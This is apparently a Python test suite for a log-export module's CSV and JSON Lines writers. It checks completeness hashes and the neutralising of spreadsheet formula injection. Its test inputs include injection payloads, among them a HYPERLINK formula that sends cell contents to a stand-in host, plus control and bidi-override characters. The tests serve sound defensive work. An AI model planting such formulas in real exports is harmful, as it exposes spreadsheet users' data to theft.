"""Both export formats hold exactly what the log holds, say whether they are complete, and carry no formulas."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from signal_log.show.export.csv import COLUMNS, CONTROL, FORMULA, Csv, cell
from signal_log.show.export.jsonl import JsonLines
from signal_log.show.words.text import visible

ABOUT = {"version": 1, "up_to": 9, "filters": {"q": ["=1+1"]}}
ANY_TEXT = st.text(st.characters(exclude_categories=()))  # including lone surrogates
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | ANY_TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(ANY_TEXT, inner, max_size=3),
    max_leaves=5,
)


def event(**columns: Any) -> dict[str, Any]:
    """Return an event's mapping with only these columns filled."""
    return dict.fromkeys(COLUMNS) | {"id": 7, "digest": "00" * 32} | columns


EVENTS = st.lists(st.builds(event, object_repr=ANY_TEXT, changes=VALUES, path=st.text(max_size=9)), max_size=5)


def export_of(file: Csv | JsonLines, *pages: list[dict[str, Any]]) -> bytes:
    """Return the whole export file for these pages."""
    return b"".join([file.begin(), *(file.add(page) for page in pages), file.end()])


def rows_of(text: bytes) -> list[dict[str, str]]:
    """Parse a CSV file the way another program would."""
    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline="")))


@given(EVENTS, EVENTS)
def test_json_lines_are_exact_whatever_the_log_holds(first: list[Any], second: list[Any]) -> None:
    """There is one JSON line per event, readable by any parser; the hash equals that of `head -c -68 | sha256sum`."""
    text = export_of(JsonLines(ABOUT), first, second)
    events = [*first, *second]
    lines = [json.loads(line) for line in text.split(b"\n")[:-1]]
    assert len(lines) == max(1, len(events))
    assert lines[0].pop("export") == ABOUT
    sha256 = hashlib.sha256(text[:-68]).hexdigest()
    assert lines[-1].pop("end") == {"events": len(events), "up_to": 9, "sha256": sha256}
    assert lines == (events or [{}])


@given(EVENTS, EVENTS)
def test_each_row_of_a_csv_is_an_event_and_no_cell_is_a_formula(first: list[Any], second: list[Any]) -> None:
    """Other programs read one row per event; the hash equals that of `head -c -66 | sha256sum`."""
    text = export_of(Csv(ABOUT), first, second)
    rows = rows_of(text)
    events = [*first, *second]
    assert len(rows) == max(1, len(events))
    assert json.loads(rows[0]["export"]) == ABOUT
    assert rows[-1]["end"] == f"{len(events)} events sha256 {hashlib.sha256(text[:-66]).hexdigest()}"
    assert not any(row["export"] for row in rows[1:])
    assert not any(row["end"] for row in rows[:-1])
    for row, was in zip(rows, events, strict=False):
        assert restored(row["object_repr"]) == in_utf8(visible(was["object_repr"]))
        if not isinstance(was["changes"], (str, type(None))):
            assert json.loads(row["changes"]) == was["changes"]
        assert not any(text.lstrip().startswith(("=", "+", "@")) for text in row.values())
        assert not row["object_repr"].lstrip().startswith("-")


def in_utf8(text: str) -> str:
    """Return the text after a round trip through UTF-8, which cannot hold lone surrogates."""
    return text.encode("utf-8", "backslashreplace").decode()


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "'=1",
        "'",
    ],
)
def test_formulas_become_text(text: str) -> None:
    """Text that a spreadsheet would evaluate gets a leading quote, and removing that quote restores the original."""
    assert cell(text)[0] == "'"
    assert restored(cell(text)) == visible(text)


def restored(text: str) -> str:
    """Return the text of a cell without the quotes that were put into it."""
    return re.sub(r"(^|[;|\t\r\n])'", r"\1", text)


FORMULAS = [
    "Bob;=1+1;", 'Bob;"=1&"',
    "Bob;\u00a0 =1", "Bob|@SUM(1)", "Bob;-1", "Bob;\uff1d1", "Bob\n=1", "Bob\r\n+1", "Bob\t=1",
    'Bob;=HYPERLINK("http://e/?"&A1)', ";=1", "|\t;=1", 'Bob\n"=1&"',
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_part_of_a_cell_is_a_formula_where_cells_are_parted_otherwise(text: str) -> None:
    """By a semicolon, as in German, or what is chosen on import; text is restored, and JSON is the same value."""
    about = {**ABOUT, "filters": {"q": [text]}}
    row = {**event(object_repr=text), "changes": {text: [None, text]}, "path": "x"}
    file = Csv(about)
    written = b"".join([file.begin(), file.add([row]), file.end()])
    for delimiter in ";|\t,":
        for line in csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""), delimiter=delimiter):
            assert [part for part in line if part.strip().startswith((*FORMULA, *CONTROL))] == [], delimiter
    [read] = rows_of(written)
    assert json.loads(read["changes"]) == row["changes"]
    assert json.loads(read["export"]) == about
    assert restored(read["object_repr"]) == visible(text)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""), (True, "true"), (-5, "-5"), ([], "[]"), ({"a": ["=1", None]}, '{"a":["=1",null]}'), ("a=1", "a=1"),
        ("a\x00\x1b[31m", "a[U+0000][U+001B][31m"), ("\u202egnp", "[U+202E]gnp"), ({"n": math.nan}, '{"n":null}'),
    ],
)  # fmt: skip
def test_cells(value: Any, shown: str) -> None:
    """Null becomes an empty cell, numbers stay numbers, the rest is JSON; invisible characters are named."""
    assert cell(value) == shown


@pytest.mark.parametrize("kind", [Csv, JsonLines])
def test_a_file_that_broke_off_is_not_whole(kind: type[Csv] | type[JsonLines]) -> None:
    """A file without its end marker is incomplete, however many events it holds."""
    file = kind(ABOUT)
    text = b"".join([file.begin(), file.add([event(), event()]), file.add([event()])])
    assert b"sha256" not in text
    assert b"sha256" in file.end()


def test_pages_of_any_size_make_the_same_file() -> None:
    """The file does not depend on how the events are split into pages, empty pages included."""
    events = [event(id=n, object_repr=f"row {n}") for n in range(5)]
    for kind in (Csv, JsonLines):
        whole = export_of(kind(ABOUT), events)
        assert whole == export_of(kind(ABOUT), [], events[:1], [], events[1:4], events[4:], [])
